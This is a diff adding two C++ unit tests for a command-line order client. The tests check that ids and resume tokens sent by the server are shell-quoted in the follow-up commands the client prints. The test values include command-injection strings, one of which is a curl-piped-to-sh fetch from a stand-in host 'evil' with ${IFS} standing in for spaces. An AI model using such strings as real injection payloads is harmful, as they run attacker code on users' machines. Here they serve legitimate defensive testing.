@@ -139,6 +139,15 @@ TEST_F(CliPlaceTest, LostOutputStillSaysTheOrderIsStored) {
             "client get a\n");
 }
 
+TEST_F(CliPlaceTest, QuotesAnIdFromTheServerForAShell) {
+  fake_.place.Then([](const PlaceOrderRequest&, Order& order) {
+    order = MakeOrder("a;evil", ORDER_STATE_PLACED);
+    return grpc::Status::OK;
+  });
+  EXPECT_EQ(Client({"place", "--customer=ann", "apple=2"}, /*output_takes=*/0), kOutputLost);
+  EXPECT_THAT(err(), EndsWith("The order is stored: client get 'a;evil'\n"));
+}
+
 TEST_F(CliPlaceTest, NamesEveryFieldThatIsWrong) {
   fake_.place.Then([](const PlaceOrderRequest&, Order&) {
     return BadRequest({{"customer", "at most 128 characters"}, {"items[0].quantity", "from 1 on"}});
@@ -383,6 +392,17 @@ TEST_F(CliWatchTest, CtrlCBeforeTheCountIsAnInterruption) {
   EXPECT_EQ(Client({"watch", "--count=10"}), kInterrupted);
   EXPECT_THAT(err(), EndsWith("client watch: interrupted after 3 of 10\n"
                               "client watch: go on with: client watch --from=3\n"));
+}
+
+TEST_F(CliWatchTest, QuotesATokenFromTheServerForAShell) {
+  fake_.watch.Then([](const WatchOrdersRequest&, FakeOrders::Watch& writer) {
+    WatchOrdersResponse response;
+    response.set_resume_token("x;curl${IFS}evil|sh");
+    writer.Write(response);
+    return grpc::Status(StatusCode::PERMISSION_DENIED, "not yours");
+  });
+  EXPECT_EQ(Client({"watch"}), kRefused);
+  EXPECT_THAT(err(), EndsWith("go on with: client watch --from='x;curl${IFS}evil|sh'\n"));
 }
 
 TEST_F(CliWatchTest, AForeignTokenIsRefused) {
